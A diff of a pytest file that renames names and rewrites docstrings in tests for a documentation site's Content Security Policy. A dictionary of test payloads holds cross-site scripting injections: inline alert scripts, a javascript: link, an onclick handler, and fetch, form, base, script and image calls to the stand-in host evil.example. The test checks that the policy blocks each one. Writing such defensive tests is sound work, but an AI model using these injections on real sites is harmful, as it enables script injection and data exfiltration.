@@ -1,4 +1,4 @@
-"""The content security policy: what it forbids, and that nothing of ours is in its way."""
+"""The content security policy: what it forbids, and that the site works under it."""
 
 from __future__ import annotations
 
@@ -21,15 +21,15 @@ from tests.site.serving import serve
 from tests.site.watched import Watched
 
 DATA = ("application/json", "application/ld+json")
-INTRUDERS = {
+ATTACKS = {
     "a script": "make('script', {textContent: 'alert(1)'})",
     "a script of another site": "make('script', {src: 'https://evil.example/x.js'})",
     "a handler": "put('<button onclick=alert(1)>x</button>').click()",
-    "an address": "put('<a href=javascript:alert(1)>x</a>').click()",
+    "a URL": "put('<a href=javascript:alert(1)>x</a>').click()",
     "a style": "put('<p style=color:red>x</p>')",
     "a picture": "make('img', {src: 'https://evil.example/x.png'})",
     "a frame": "make('iframe', {src: 'about/'})",
-    "a call": "fetch('https://evil.example/').catch(() => 0)",
+    "a request": "fetch('https://evil.example/').catch(() => 0)",
     "another base": "make('base', {href: 'https://evil.example/'})",
     "another form": "put('<form action=https://evil.example/></form>').submit()",
 }
@@ -42,19 +42,19 @@ put = (html) => (document.body.insertAdjacentHTML("beforeend", html), document.b
 
 
 def policy_of(page: Page) -> dict[str, list[str]]:
-    """The words of a page's policy by what they are about; the policy is the first thing in its head."""
+    """Return a page's policy by directive; it is the first element of the head."""
     first = next(iter(next(page.tree.iter("head"))))
     assert first.get("http-equiv") == "Content-Security-Policy", page.address
-    rules = [rule.split() for rule in (first.get("content") or "").split(";")]
-    return {name: allowed for name, *allowed in rules}
+    directives = [directive.split() for directive in (first.get("content") or "").split(";")]
+    return {name: allowed for name, *allowed in directives}
 
 
 def inline_scripts(page: Page) -> Iterator[Element]:
-    return (one for one in page.tree.iter("script") if not one.get("src") and one.get("type") not in DATA)
+    return (script for script in page.tree.iter("script") if not script.get("src") and script.get("type") not in DATA)
 
 
 def test_every_page_has_a_strict_policy(site: RenderedSite) -> None:
-    """Every HTML file, redirects and the missing page included, allows nothing but the site itself."""
+    """Every HTML file, redirects and 404.html included, allows the site itself only."""
     allowed = {"'none'", "'self'", "data:"}
     for page in site.all_pages.values():
         policy = policy_of(page)
@@ -69,19 +69,19 @@ def test_every_page_has_a_strict_policy(site: RenderedSite) -> None:
         assert "data:" not in policy.get("script-src", [])
 
 
-def test_the_policy_may_stand_in_a_page(site: RenderedSite) -> None:
-    """The encoding is still told within the first 1024 bytes, as browsers want it."""
+def test_charset_is_within_the_first_1024_bytes(site: RenderedSite) -> None:
+    """The policy before it doesn't push the charset out of the first 1024 bytes."""
     none(page.address for page in site.all_pages.values() if '<meta charset="utf-8">' not in page.html[:1024])
 
 
-def test_no_page_needs_more(site: RenderedSite) -> None:
-    """No page has a script, a style, a handler or an address that its policy would have to excuse."""
+def test_pages_have_no_inline_scripts_styles_or_handlers(site: RenderedSite) -> None:
+    """No page has a script, style, handler or URL that its policy forbids."""
     faults = []
     for page in site.all_pages.values():
-        known = policy_of(page).get("script-src", [])
+        sources = policy_of(page).get("script-src", [])
         for script in inline_scripts(page):
             digest = base64.b64encode(hashlib.sha256((script.text or "").encode()).digest()).decode()
-            if f"'sha256-{digest}'" not in known:
+            if f"'sha256-{digest}'" not in sources:
                 faults.append((page.address, "script", (script.text or "")[:80]))
         for element in page.tree.iter():
             if isinstance(element.tag, str):
@@ -97,30 +97,30 @@ def test_no_page_needs_more(site: RenderedSite) -> None:
     none(faults)
 
 
-def test_data_in_pages_is_data(site: RenderedSite) -> None:
-    """What stands in a script element and is not run can be read as JSON."""
+def test_data_scripts_are_valid_json(site: RenderedSite) -> None:
+    """The content of every data script parses as JSON."""
     for page in site.all_pages.values():
         for script in page.tree.iter("script"):
             if script.get("type") in DATA:
                 json.loads(script.text or "")
 
 
-def test_only_serving_is_relaxed() -> None:
-    """The script that reloads a served page is allowed while serving, and never in what is published."""
+def test_inline_scripts_are_allowed_only_while_serving() -> None:
+    """The script that reloads a served page is allowed while serving, and not in a published page."""
     assert "unsafe" not in page_policy()
     assert "script-src 'self' 'unsafe-inline';" in page_policy(serving=True)
     assert page_policy(serving=True).replace(" 'unsafe-inline'", "") == page_policy()
 
 
-def test_a_script_is_named_by_its_own_text() -> None:
+def test_script_hash_depends_on_the_script() -> None:
     """The policy of a redirect changes with its script."""
     assert script_policy("a()") != script_policy("b()")
 
 
-def test_everything_works_under_the_policy(site: RenderedSite, home: str, window: Any) -> None:
-    """Searching, colours, copying, printing and every redirect go without a violation."""
-    watched = Watched(window(accept_downloads=True), home)
-    page = watched.page
+def test_site_works_without_policy_violations(site: RenderedSite, home: str, window: Any) -> None:
+    """Search, colour scheme, printing and redirects cause no violation."""
+    watcher = Watched(window(accept_downloads=True), home)
+    page = watcher.page
     for address in PAGES:
         page.goto(home + address)
         page.locator("button.color-scheme").click()
@@ -136,50 +136,50 @@ def test_everything_works_under_the_policy(site: RenderedSite, home: str, window
     box.fill("observer")
     box.press("End")
     page.locator(".md-search-result__link").first.wait_for()
-    for one in [one for one in site.all_pages.values() if one.redirects][:8]:
-        page.goto(home + one.address)
+    for redirect in [redirect for redirect in site.all_pages.values() if redirect.redirects][:8]:
+        page.goto(home + redirect.address)
         page.locator("article h1").wait_for()
-    none(watched.faults)
+    none(watcher.faults)
 
 
-def test_the_plan_works_under_the_policy(home: str, window: Any) -> None:
-    """So do ticking, saving, the calendar, the link and printing."""
-    watched = Watched(window(accept_downloads=True), home)
-    page = watched.page
+def test_plan_works_without_policy_violations(home: str, window: Any) -> None:
+    """Checking, downloading, the calendar, the link and printing cause no violation."""
+    watcher = Watched(window(accept_downloads=True), home)
+    page = watcher.page
     page.goto(f"{home}plan/")
     page.evaluate("window.print = () => 0")
     page.get_by_role("checkbox", name="Sky Practitioner", exact=True).check()
     page.locator("#day-sky-practitioner").fill("2025-06-30")
     page.locator("#plan-form [type=submit]").click()
-    for does in ("save", "calendar"):
-        with page.expect_download() as saved:
-            page.locator(f"[data-do={does}]").first.click()
-        assert Path(saved.value.path()).stat().st_size
-    for does in ("link", "print"):
-        page.locator(f"[data-do={does}]").first.click()
-    none(watched.faults)
+    for action in ("save", "calendar"):
+        with page.expect_download() as download:
+            page.locator(f"[data-do={action}]").first.click()
+        assert Path(download.value.path()).stat().st_size
+    for action in ("link", "print"):
+        page.locator(f"[data-do={action}]").first.click()
+    none(watcher.faults)
 
 
-@pytest.mark.parametrize("what", INTRUDERS)
-def test_the_policy_holds(home: str, window: Any, what: str) -> None:
-    """Whatever got into a page in spite of everything: it does not run, load or send."""
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_injected_content_is_blocked(home: str, window: Any, attack: str) -> None:
+    """Content injected into a page doesn't run, load or send anything."""
     page = window()
-    asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
-    page.on("requestfailed", lambda request: request.failure == "csp" and asked.remove(request.url))
-    page.on("dialog", lambda dialog: (asked.append("dialog"), dialog.dismiss()))
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("requestfailed", lambda request: request.failure == "csp" and requests.remove(request.url))
+    page.on("dialog", lambda dialog: (requests.append("dialog"), dialog.dismiss()))
     page.goto(home)
     page.evaluate(TOOLS)
-    page.evaluate(f"() => {{ {INTRUDERS[what]} }}")
+    page.evaluate(f"() => {{ {ATTACKS[attack]} }}")
     page.wait_for_function("() => refused.length > 0")
-    assert not [one for one in asked if "evil.example" in one or one == "dialog"]
+    assert not [url for url in requests if "evil.example" in url or url == "dialog"]
 
 
-def test_a_served_page_reloads_itself(new_project: NewProject, window: Any) -> None:
-    """While serving, the page in the browser follows an edit without being asked."""
+def test_served_page_reloads_after_an_edit(new_project: NewProject, window: Any) -> None:
+    """While serving, the page in the browser reloads after an edit."""
     with serve(new_project()) as serving:
-        watched = Watched(window(), serving.address)
-        watched.page.goto(serving.address)
+        watcher = Watched(window(), serving.address)
+        watcher.page.goto(serving.address)
         with serving.edited(CATALOG, "title: Which Vega certification should I get?", "title: Which loom?"):
-            watched.page.get_by_text("Which loom?").first.wait_for(state="attached", timeout=60_000)
-        none(fault for fault in watched.faults if "livereload" not in fault)
+            watcher.page.get_by_text("Which loom?").first.wait_for(state="attached", timeout=60_000)
+        none(fault for fault in watcher.faults if "livereload" not in fault)
